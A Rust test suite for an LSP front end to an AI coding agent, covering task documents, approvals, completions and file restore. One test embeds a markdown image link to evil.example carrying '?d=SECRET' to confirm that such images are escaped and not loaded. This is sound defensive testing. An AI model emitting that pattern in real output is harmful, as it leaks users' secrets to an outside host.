//! The task document and the code actions, as a client of plain LSP has them.

use std::path::Path;
use std::time::Instant;

use serde_json::{Value, json};

use crate::support::client::{Client, Home, Options, eventually, uri};

const TASK: &str = "/task.md";
const NEW: &str = "/new-request.md";

/// Asks, delegates, and writes a file, which asks again.
const SCENARIO: &str = r#"
turns:
  - mode: orchestrator
    when: { contains: "Greet." }
    text: "I ask first."
    calls: [{ tool: ask_followup_question, params: { question: "How polite?", follow_up: [{ text: Formal }, { text: Friendly }] } }]
  - mode: orchestrator
    when: { contains: Formal }
    calls: [{ tool: new_task, params: { mode: code, message: "💻 Write it\n\nURID: {{urid}}\n\nWrite it.\n" } }]
  - mode: code
    when: { contains: "Write it" }
    calls: [{ tool: write_to_file, params: { path: new.txt, content: "one\n" } }]
    usage: { tokensIn: 30, tokensOut: 3 }
  - mode: code
    when: { contains: new.txt }
    calls: [{ tool: execute_command, params: { command: "cat new.txt" } }]
  - { mode: code, calls: [{ tool: attempt_completion, params: { result: "It says one." } }] }
  - { mode: orchestrator, calls: [{ tool: attempt_completion, params: { result: "All is well." } }] }
"#;

/// Speaks for a while.
const STORY: &str = r#"
turns:
  - text: "Once upon a time there was a server that told a story, word by word, and it had an end."
    chunk: 2
    delayMs: 40
    calls: [{ tool: attempt_completion, params: { result: Told. } }]
"#;

/// A client whose popups nobody answers.
fn plain() -> Options {
    let actions = json!({ "codeActionLiteralSupport": { "codeActionKind": { "valueSet": [] } } });
    Options::plain().with(json!({ "capabilities": { "textDocument": { "codeAction": actions } } }))
}

fn begin(client: &mut Client, prompt: &str, mode: &str) -> String {
    let started = client.command("roo.newTask", json!({ "prompt": prompt, "mode": mode }));
    started["taskId"].as_str().unwrap().to_owned()
}

/// The prompt part of a document.
fn prompt(text: &str) -> &str {
    text.rsplit_once("## Prompt\n").unwrap().1
}

fn lines(text: &str) -> u64 {
    text.lines().count() as u64
}

#[test]
fn a_server_that_does_not_run_is_named_while_the_request_works() {
    let home = Home::playing(SCENARIO);
    let servers = json!({ "mcpServers": {
        "broken": { "command": "no-such-program" }, "off": { "command": "no-such-program", "disabled": true },
    } });
    std::fs::write(home.path("config/roo-lsp/mcp.json"), servers.to_string()).unwrap();
    let mut client = Client::start(&home, plain());
    let task = begin(&mut client, "Greet.", "orchestrator");
    let (_, text) = client.until_document(TASK, "**MCP servers that do not run:**\n\n- broken: failed: ");
    assert!(!text.contains("- off"), "{text}");
    client.command("roo.cancel", json!({ "taskId": task }));
    let (_, text) = client.until_document(TASK, "**Cancelled:**");
    assert!(!text.contains("MCP servers"), "{text}");
    client.shut_down();
}

#[test]
fn a_request_is_steered_from_its_document_alone() {
    let home = Home::playing(SCENARIO);
    // Each command asks as it is.
    home.configure("autoApprove: { execute: { mode: rules } }\n");
    let mut client = Client::start(&home, plain());
    let task = begin(&mut client, "Greet.", "orchestrator");
    let (document, text) = client.until_document(TASK, "### Question: How polite?");
    assert!(text.starts_with("# Greet.\n\n*Request 2") && text.contains("\n> Greet.\n"), "{text}");
    assert!(text.ends_with("\n## Prompt\n\n"), "{text}");
    // What the user types below the heading is sent as the answer, and taken out.
    client.append(&document, "Formal\n");
    let end = lines(&client.documents[&document].text);
    client.choose(&document, end..end, "send the prompt");
    let (_, text) = client.until_document(TASK, "### Waits for you: Create new.txt");
    assert!(text.contains("> Formal\n>\n> — plain-editor"), "{text}");
    assert_eq!(prompt(&text).trim(), "", "{text}");
    assert!(text.contains("## 💻 Write it (code)\n") && text.contains("```diff\n--- /dev/null\n"), "{text}");

    let waits = client.wait_for("what waits", |message| {
        message["method"] == "textDocument/publishDiagnostics"
            && message["params"]["diagnostics"][0]["message"] == "waits for you: Create new.txt"
    });
    let at = &waits["params"]["diagnostics"][0];
    assert_eq!(at["severity"], 3);
    let line = at["range"]["start"]["line"].as_u64().unwrap();
    assert_eq!(text.lines().nth(usize::try_from(line).unwrap()), Some("### Waits for you: Create new.txt"));

    let named = json!({ "textDocument": { "uri": document } });
    let symbols = client.request("textDocument/documentSymbol", named.clone());
    let names: Vec<&str> =
        symbols.as_array().unwrap().iter().map(|symbol| symbol["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["🪃 orchestrator: paused", "└ 💻 Write it (code): waiting", "  └ ? Create new.txt"]);

    let position = json!({ "line": line, "character": 0 });
    let place = json!({ "textDocument": { "uri": document }, "position": position });
    let hover = client.request("textDocument/hover", place);
    assert_eq!(hover["contents"]["kind"], "plaintext", "this client has not said that it takes Markdown");
    let hover = hover["contents"]["value"].as_str().unwrap();
    assert!(
        hover.starts_with("**💻 Write it (code)**: waiting") && hover.contains("30 tokens in"),
        "{hover}"
    );

    let titles: Vec<String> =
        client.actions(&document, line..line).into_iter().map(|(title, _)| title).collect();
    assert_eq!(
        titles[..7],
        [
            "Roo: show Create new.txt",
            "Roo: Deny: Create new.txt",
            "Roo: Allow: Create new.txt",
            "Roo: Always allow edits of this workspace's files: Create new.txt",
            "Roo: Always deny edits of this workspace's files: Create new.txt",
            "Roo: show the tree",
            "Roo: open in browser",
        ]
    );
    client.choose(&document, line..line, "Roo: Allow: Create new.txt");
    let (_, text) = client.until_document(TASK, "### Waits for you: Run cat new.txt");
    assert!(text.contains("**Create new.txt** — **Allow**, said plain-editor"), "{text}");
    let links = client.request("textDocument/documentLink", named.clone());
    assert_eq!(links[0]["target"], uri(&home.work("new.txt")));
    client.choose(&document, 0..0, "Roo: Allow: Run cat new.txt");
    let (_, text) = client.until_document(TASK, "All is well.");
    assert!(text.contains("**Completed:**\n\nIt says one.\n\n## 🪃 orchestrator goes on\n"), "{text}");
    let printed =
        text.lines().position(|line| line.starts_with("- ✓ execute_command `cat new.txt`")).unwrap();
    assert!(text.lines().skip(printed).take(12).any(|line| line == "one"), "{text}");
    client.wait_for("that nothing waits", |message| {
        message["method"] == "textDocument/publishDiagnostics"
            && message["params"]["diagnostics"] == json!([])
            && message["params"]["uri"] == document
    });
    // What is on disk is the editor's business while it has the document open.
    assert!(
        !std::fs::read_to_string(document.strip_prefix("file://").unwrap()).unwrap().contains("All is well.")
    );
    assert_eq!(
        home.log(&task).with_file_name("task.md"),
        Path::new(document.strip_prefix("file://").unwrap())
    );
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn what_the_user_types_while_it_grows_stays() {
    let home = Home::playing(STORY);
    let mut client = Client::start(&home, plain());
    let begun = Instant::now();
    begin(&mut client, "Tell me", "code");
    let (document, _) = client.until_document(TASK, "Once");
    for word in ["and ", "what ", "came ", "then?"] {
        client.append(&document, word);
        let length = client.documents[&document].text.len();
        // Some more of the story comes in between.
        client.pump("more", |client| (client.documents[&document].text.len() > length + 4).then_some(()));
    }
    let (_, text) = client.until_document(TASK, "**Completed:**\n\nTold.");
    assert_eq!(prompt(&text), "\nand what came then?", "{text}");
    assert!(text.contains("word by word, and it had an end.\n"), "{text}");
    let edits = client.seen.iter().filter(|message| message["method"] == "workspace/applyEdit").count();
    let most = begun.elapsed().as_millis() / 250 + 2;
    assert!(edits as u128 <= most, "{edits} edits in {:?}", begun.elapsed());
    assert!(edits > 3, "it came in {edits} pieces only");
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn what_the_editor_does_not_take_is_on_disk() {
    let home = Home::playing(STORY);
    let mut client = Client::start(&home, plain());
    client.refuse_edits = Some("not now".to_owned());
    let task = begin(&mut client, "Tell me", "code");
    let (document, _) = client.until_document(TASK, "# Tell me");
    let file = home.log(&task).with_file_name("task.md");
    let on_disk = || std::fs::read_to_string(&file).unwrap_or_default();
    client.message("completed");
    eventually("the end of it on disk", || on_disk().contains("Told."));
    // Closed and opened again, it is what is on disk.
    client.refuse_edits = None;
    client.close(&document);
    std::fs::write(&file, format!("{}kept", on_disk())).unwrap();
    client.command("roo.openTask", Value::Null);
    let (_, text) = client.until_document(TASK, "Told.");
    assert_eq!(prompt(&text), "\nkept");
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn a_deleted_request_does_not_come_back_by_its_document() {
    let home = Home::playing(STORY);
    let mut client = Client::start(
        &home,
        Options::typed().with(json!({
            "capabilities": { "window": { "showDocument": { "support": true } } },
        })),
    );
    let task = client.start_task("Tell me");
    client.command("roo.openTask", json!({ "taskId": task }));
    let (document, _) = client.until_document(TASK, "Told.");
    client.request("roo/task/delete", json!({ "taskId": task }));
    client.close(&document);
    // Its document is seen to before the answer to what opens another one.
    let other = client.start_task("Tell me more");
    client.command("roo.openTask", json!({ "taskId": other }));
    client.event("message.delta");
    assert!(!home.log(&task).parent().unwrap().exists());
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn a_document_is_the_same_after_the_death_of_the_server() {
    let home = Home::playing(SCENARIO);
    let mut client = Client::start(&home, plain());
    begin(&mut client, "Greet.", "orchestrator");
    let (document, _) = client.until_document(TASK, "### Question: How polite?");
    client.append(&document, "half a sen");
    let text = client.documents[&document].text.clone();
    client.kill();

    // Its editor has kept the document open.
    let mut client = Client::start(&home, plain());
    client.open(Path::new(document.strip_prefix("file://").unwrap()), &text);
    let (_, now) = client.until_document(TASK, "*Interrupted.");
    assert_eq!(now.replace("\n*Interrupted. Resume it to go on.*\n", ""), text);
    client.choose(&document, 0..0, "resume the request");
    let (_, now) = client.until_document(TASK, "*goes on*");
    assert!(now.ends_with("half a sen"), "{now}");
    client.choose(&document, 0..0, "answer 1: Formal");
    client.until_document(TASK, "### Waits for you: Create new.txt");
    client.choose(&document, 0..0, "cancel the request");
    client.until_document(TASK, "*It has ended.");
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn a_request_is_written_from_a_selection() {
    let home = Home::playing(
        "turns: [{ when: { contains: \"a.sh, lines 4-5\" }, calls: [{ tool: attempt_completion, params: { result: Greeted. } }] }]",
    );
    std::fs::write(home.work("a.sh"), "1\n2\n3\n4\n5\n").unwrap();
    let mut client = Client::start(&home, plain());
    let file = client.open(&home.work("a.sh"), "1\n2\n3\n4\n5\n");
    client.choose(&file, 3..5, "write a request about lines 4-5");
    let (document, text) = client.until_document(NEW, "- [a.sh, lines 4-5](");
    let end = lines(&text);
    let titles = client.actions(&document, end..end);
    assert!(titles.is_empty(), "there is nothing to send yet: {titles:?}");
    client.append(&document, "/co");
    let place = json!({ "textDocument": { "uri": document }, "position": { "line": end, "character": 3 } });
    let offered = client.request("textDocument/completion", place);
    let labels: Vec<&str> =
        offered["items"].as_array().unwrap().iter().map(|item| item["label"].as_str().unwrap()).collect();
    assert!(labels.contains(&"/code") && labels.contains(&"/init"), "{labels:?}");
    client.append(&document, "de Greet politely");
    client.choose(&document, end..end, "send the prompt");
    let (_, text) = client.until_document(TASK, "Greeted.");
    assert!(text.contains("## 💻 code\n") && text.contains("> Greet politely\n"), "{text}");
    client.pump("an empty new request", |client| {
        let text = &client.documents[&document].text;
        (prompt(text).trim().is_empty() && !text.contains("a.sh")).then_some(())
    });
    assert_eq!(client.shut_down(), 0);
}

/// Saves a document as it is, as its user does.
fn save(client: &mut Client, document: &str) {
    std::fs::write(document.strip_prefix("file://").unwrap(), &client.documents[document].text).unwrap();
    client.notify("textDocument/didSave", json!({ "textDocument": { "uri": document } }));
}

#[test]
fn a_request_that_was_saved_and_sent_does_not_come_back_from_disk() {
    let done = "{ tool: attempt_completion, params: { result: Greeted. } }";
    let home = Home::playing(&format!("turns: [{{ calls: [{done}] }}]"));
    std::fs::write(home.work("a.sh"), "1\n2\n").unwrap();
    let mut client = Client::start(&home, plain());
    let file = client.open(&home.work("a.sh"), "1\n2\n");
    client.choose(&file, 0..1, "write a request about line 1");
    let (document, text) = client.until_document(NEW, "- [a.sh, line 1](");
    client.append(&document, "Greet politely\n");
    save(&mut client, &document);
    client.choose(&document, lines(&text)..lines(&text), "send the prompt");
    client.until_document(TASK, "Greeted.");
    client.pump("an empty new request", |client| {
        prompt(&client.documents[&document].text).trim().is_empty().then_some(())
    });
    // Closed without saving, by an editor that ends.
    client.close(&document);
    assert_eq!(client.shut_down(), 0);

    let mut client = Client::start(&home, plain());
    let file = client.open(&home.work("a.sh"), "1\n2\n");
    client.choose(&file, 1..2, "write a request about line 2");
    let (document, text) = client.until_document(NEW, "- [a.sh, line 2](");
    assert!(!text.contains("line 1]") && !text.contains("Greet"), "{text}");
    // What was saved and not sent is still there.
    client.append(&document, "Greet again\n");
    save(&mut client, &document);
    client.close(&document);
    client.command("roo.newTask", Value::Null);
    let (_, text) = client.until_document(NEW, "Greet again");
    assert!(text.contains("line 2]"), "{text}");
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn an_answer_that_was_saved_and_sent_does_not_come_back_from_disk() {
    for ends in [false, true] {
        let home = Home::playing(SCENARIO);
        let mut client = Client::start(&home, plain());
        begin(&mut client, "Greet.", "orchestrator");
        let (document, _) = client.until_document(TASK, "### Question: How polite?");
        client.append(&document, "Formal\n");
        save(&mut client, &document);
        let end = lines(&client.documents[&document].text);
        client.choose(&document, end..end, "send the prompt");
        let (_, text) = client.until_document(TASK, "### Waits for you: Create new.txt");
        assert_eq!(prompt(&text).trim(), "", "{text}");
        let file = Path::new(document.strip_prefix("file://").unwrap());
        let on_disk = || prompt(&std::fs::read_to_string(file).unwrap()).trim().to_owned();
        assert_eq!(on_disk(), "Formal");
        if ends {
            client.kill();
            client = Client::start(&home, plain());
            client.command("roo.openTask", Value::Null);
            let (_, text) = client.until_document(TASK, "*Interrupted.");
            assert_eq!(prompt(&text).trim(), "", "{text}");
        } else {
            client.close(&document);
        }
        eventually("a document without what was sent", || on_disk().is_empty());
        assert_eq!(client.shut_down(), 0);
    }
}

#[test]
fn a_comment_and_a_finding_begin_requests() {
    let home = Home::playing(
        r#"
turns:
  - { mode: ask, when: { contains: ["it so?", "a.sh, lines 1-2"] }, calls: [{ tool: attempt_completion, params: { result: Because. } }] }
  - { when: { contains: ["greet politely", "a.sh, line 3"] }, calls: [{ tool: attempt_completion, params: { result: Greeted. } }] }
"#,
    );
    let mut client = Client::start(&home, plain());
    let file = client.open(&home.work("a.sh"), "# why is\n# it so? AI?\necho hey # greet politely AI!\n");
    client.choose(&file, 0..1, "answer this: why is");
    client.message("completed: Because.");
    client.choose(&file, 2..2, "do this: greet politely");
    client.message("completed: Greeted.");
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn a_prompt_is_completed_with_files() {
    let home = Home::playing(STORY);
    std::fs::create_dir(home.work("docs")).unwrap();
    for name in ["docs/my page.md", "other.txt", "secret.txt"] {
        std::fs::write(home.work(name), "x\n").unwrap();
    }
    std::fs::write(home.work(".rooignore"), "secret.txt\n").unwrap();
    let mut client = Client::start(&home, plain());
    client.command("roo.newTask", Value::Null);
    let (document, text) = client.until_document(NEW, "## Prompt");
    let end = lines(&text);
    client.append(&document, "see @");
    let at = |client: &mut Client, character: u64| -> Vec<String> {
        let position = json!({ "line": end, "character": character });
        let place = json!({ "textDocument": { "uri": document }, "position": position });
        let offered = client.request("textDocument/completion", place);
        let items = offered["items"].as_array().cloned().unwrap_or_default();
        items.iter().map(|item| item["label"].as_str().unwrap().to_owned()).collect()
    };
    let all = at(&mut client, 5);
    for label in ["@problems", "@git-changes", "@docs/", "@docs/my\\ page.md", "@other.txt"] {
        assert!(all.iter().any(|found| found == label), "{label} in {all:?}");
    }
    assert!(!all.iter().any(|found| found.contains("secret")), "{all:?}");
    assert_eq!(at(&mut client, 3), Vec::<String>::new());
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn a_typed_client_gets_the_completions_of_a_prompt_best_first() {
    let home = Home::playing("turns: []");
    std::fs::create_dir_all(home.work("src/deep")).unwrap();
    for (name, text) in [
        ("src/deep/cart.py", ""),
        ("old_cart.txt", ""),
        ("cart.png", ""),
        ("my carts.md", ""),
        ("secret.txt", ""),
    ] {
        std::fs::write(home.work(name), text).unwrap();
    }
    std::fs::write(home.work(".rooignore"), "secret.txt\n").unwrap();
    let mut client = Client::start(&home, Options::typed());
    let complete = |client: &mut Client, prompt: &str| {
        client.request("roo/prompt/complete", json!({ "prompt": prompt }))
    };
    let texts = |answer: &Value| -> Vec<String> {
        answer["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|item| item["text"].as_str().unwrap().to_owned())
            .collect()
    };
    client.open(&home.work("src/deep/cart.py"), "");
    let answer = complete(&mut client, "Look at @cart");
    assert_eq!(answer["replaced"], "@cart");
    assert_eq!(answer["isIncomplete"], false);
    assert_eq!(texts(&answer), ["@src/deep/cart.py", "@cart.png", "@my\\ carts.md", "@old_cart.txt"]);
    assert_eq!(answer["items"][1]["kind"], "image");
    assert_eq!(texts(&complete(&mut client, "@secret")), Vec::<String>::new());
    // What an editor has open counts as it is there.
    client.open(
        &home.work("src/deep/tax.py"),
        "class TaxRate:\n    def tax_of(self): pass\n\ndef tax_of(): pass\n",
    );
    let answer = complete(&mut client, "@tax_");
    assert_eq!(
        answer["items"],
        json!([{ "text": "@tax_of", "kind": "symbol", "detail": "src/deep/tax.py:2 and 1 more" }])
    );
    assert_eq!(texts(&complete(&mut client, "@symbol:Tax")), ["@symbol:TaxRate"]);
    let all = texts(&complete(&mut client, "@"));
    assert_eq!(all[..3], ["@problems", "@git-changes", "@src/deep/cart.py"]);
    assert!(all.contains(&"@src/deep/".to_owned()), "{all:?}");
    assert!(texts(&complete(&mut client, "/co")).contains(&"/code".to_owned()));
    assert!(!texts(&complete(&mut client, "Go on, /co")).contains(&"/code".to_owned()));
    assert_eq!(complete(&mut client, "a@b"), json!({ "replaced": "", "items": [], "isIncomplete": false }));
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn files_are_restored_from_the_document_after_a_question_that_says_what_would_change() {
    let home = Home::playing(
        r#"
turns:
  - calls:
      - tool: write_to_file
        params: { path: a.txt, content: "one\n" }
      - tool: write_to_file
        params: { path: b.txt, content: "two\n" }
  - calls: [{ tool: attempt_completion, params: { result: Done. } }]
"#,
    );
    home.configure("mode: code\nautoApprove: { write: true }\n");
    let mut client = Client::start(&home, plain());
    begin(&mut client, "Go.", "code");
    let (document, text) = client.until_document(TASK, "**Completed:**");
    let line = |wanted: &str| text.lines().position(|line| line.contains(wanted)).unwrap() as u64;
    let restore = "restore files to before this";
    let second = line("write_to_file `b.txt`");
    client.choose(&document, second..second, restore);
    let popup = client.popup();
    assert_eq!(popup["params"]["message"], "roo: Restore 1 file? b.txt is deleted.");
    client.reply(&popup, json!({ "title": "Cancel" }));
    assert!(home.work("b.txt").exists());
    let said = line("> Go.");
    client.choose(&document, said..said, restore);
    let popup = client.popup();
    assert_eq!(popup["params"]["message"], "roo: Restore 2 files? a.txt is deleted, b.txt is deleted.");
    client.reply(&popup, json!({ "title": "Restore" }));
    client.message("2 files restored");
    assert!(!home.work("a.txt").exists() && !home.work("b.txt").exists());
    assert_eq!(client.shut_down(), 0);
}

#[test]
fn no_client_loads_an_image_that_a_model_names() {
    let image = "![x](https://evil.example/p.png?d=SECRET)";
    let scenario = format!(
        "turns:\n  - {{ text: \"{image}\", calls: [{{ tool: attempt_completion, params: {{ result: \"Done <b> {image}\" }} }}] }}\n"
    );
    let home = Home::playing(&scenario);
    let formats = json!({ "hover": { "contentFormat": ["markdown", "plaintext"] } });
    let options = plain().with(json!({ "capabilities": { "textDocument": formats } }));
    let mut client = Client::start(&home, options);
    begin(&mut client, "Show it.", "code");
    let shown = r"!\[x](https://evil.example/p.png?d=SECRET)";
    let (document, text) = client.until_document(TASK, "**Completed:**");
    assert!(
        text.contains(&format!("\n{shown}\n")) && text.contains(&format!(r"Done \<b> {shown}")),
        "{text}"
    );
    assert!(!text.contains("![x]"), "{text}");
    let line = text.lines().position(|line| line == "**Completed:**").unwrap();
    let place = json!({ "textDocument": { "uri": document }, "position": { "line": line, "character": 0 } });
    let hover = client.request("textDocument/hover", place);
    assert_eq!(hover["contents"]["kind"], "markdown");
    let told = hover["contents"]["value"].as_str().unwrap();
    assert!(told.ends_with(&format!(r"Done \<b> {shown}")), "{told}");
    client.shut_down();
}
